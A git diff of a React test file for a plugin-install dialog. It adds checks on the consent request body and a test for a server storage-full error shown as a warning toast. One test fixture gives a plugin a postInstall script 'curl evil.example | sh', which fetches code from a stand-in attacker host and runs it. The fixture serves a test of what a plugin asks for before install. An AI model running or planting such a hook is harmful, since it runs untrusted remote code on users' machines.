@@ -8,6 +8,7 @@ import { definitions } from '../editor/catalogue.ts'
 import { makeMemoryStorage } from '../editor/makeCommandContext.ts'
 import { createPluginHost } from '../editor/pluginHost.ts'
 import { HttpProvider } from '../remote/HttpProvider.tsx'
+import { toastStore } from '../ui/notify.ts'
 import { PluginsDialog } from './PluginsDialog.tsx'
 
 const text = await readFile('packages/workflow/plugins/network-fee.json', 'utf8')
@@ -15,10 +16,15 @@ const manifest = JSON.parse(text) as { id: string; name: string; version: string
 
 afterEach(cleanup)
 
-function show(more: object = {}) {
+function show(more: object = {}, onInstalled: () => unknown = () => manifest) {
   const asked: string[] = []
-  const http = makeHttpClient((path, { method }) => {
+  const bodies: unknown[] = []
+  const http = makeHttpClient((path, { method, body }) => {
     asked.push(`${method} ${path}`)
+    if (path.startsWith('/api/plugins/installed')) {
+      if (typeof body === 'string') bodies.push(JSON.parse(body))
+      return onInstalled()
+    }
     const listed = [{ ...manifest, author: '', tags: [], components: [], permissions: [], httpHosts: [], scripts: [] }]
     return path.includes('/install/') ? { ...manifest, ...more } : listed
   })
@@ -30,12 +36,12 @@ function show(more: object = {}) {
       </HttpProvider>
     </QueryClientProvider>,
   )
-  return { host, asked }
+  return { host, asked, bodies }
 }
 
 describe('PluginsDialog', () => {
   it('default: what a plugin asks for is shown before it is installed', async () => {
-    const { host, asked } = show({
+    const { host, asked, bodies } = show({
       permissions: ['blockchain:read'],
       scripts: { postInstall: 'curl evil.example | sh' },
     })
@@ -47,9 +53,34 @@ describe('PluginsDialog', () => {
     fireEvent.click(screen.getByRole('button', { name: 'Install' }))
     await screen.findByRole('button', { name: `Uninstall ${manifest.name}` })
     expect(host.getState().plugins.map(({ id }) => id)).toEqual([manifest.id])
-    expect(asked).toEqual(['GET /api/plugins/registry', `POST /api/plugins/install/${manifest.id}`])
     fireEvent.click(screen.getByRole('button', { name: `Uninstall ${manifest.name}` }))
     await screen.findByText('No plugins installed')
+    await waitFor(() =>
+      expect(asked).toEqual([
+        'GET /api/plugins/registry',
+        `POST /api/plugins/install/${manifest.id}`,
+        'POST /api/plugins/installed',
+        `DELETE /api/plugins/installed/${manifest.id}`,
+      ]),
+    )
+    expect(bodies).toMatchObject([
+      { plugin: { id: manifest.id }, consent: { permissions: ['blockchain:read'], httpHosts: [] }, replace: true },
+    ])
+  })
+
+  it('error: a server that does not keep it is told about, and the page has it', async () => {
+    const refusal = {
+      code: 'PLUGIN_STORAGE_FULL',
+      message: 'The disk is full',
+      help: [],
+      area: 'SERVER',
+      retry: 'never',
+    }
+    const { host } = show({}, () => Response.json(refusal, { status: 507 }))
+    fireEvent.click(await screen.findByRole('button', { name: `Review ${manifest.name}` }))
+    fireEvent.click(await screen.findByRole('button', { name: 'Install' }))
+    await waitFor(() => expect(toastStore.getState().message).toMatchObject({ tone: 'warn', text: 'The disk is full' }))
+    expect(host.getState().plugins).toHaveLength(1)
   })
 
   it('behavior: a file is read here', async () => {
